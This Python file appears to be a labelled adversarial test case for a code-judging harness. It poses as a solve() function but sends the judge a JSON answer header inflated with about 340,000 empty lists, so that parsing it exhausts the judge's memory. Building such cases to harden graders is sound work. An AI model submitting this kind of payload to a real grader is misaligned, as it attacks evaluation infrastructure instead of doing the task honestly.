"""Sends headers that take far more room when they are parsed"""

import json
import os
import struct

ATTACK = {
    "group": "exhaust",
    "verdicts": ["wrong-answer", "violation"],
    "witness": "judge-memory",
    "bound_s": 8,
    "control": "naive",
}


calls = []


def solve(seed, x_batch, y_batch, lr):
    calls.append(1)
    returned = {
        "type": "float",
        "dtype": "float64",
        "shape": [2],
        "array": {"dtype": "float64", "shape": [2]},
    }
    event = {"kind": "bomb", "line": 1, "facts": {"a": 0}}
    header = {"kind": "answer", "number": len(calls), "returned": returned, "events": [event]}
    text = json.dumps(header).replace('"a": 0', '"a": [' + "[]," * 340_000 + "0]").encode()
    data = struct.pack("!II", len(text), 16) + text + bytes(16)
    while data:
        data = data[os.write(3, data) :]
    while len(calls) < 4 and os.read(3, 1 << 16):
        return solve(seed, x_batch, y_batch, lr)
    os._exit(0)
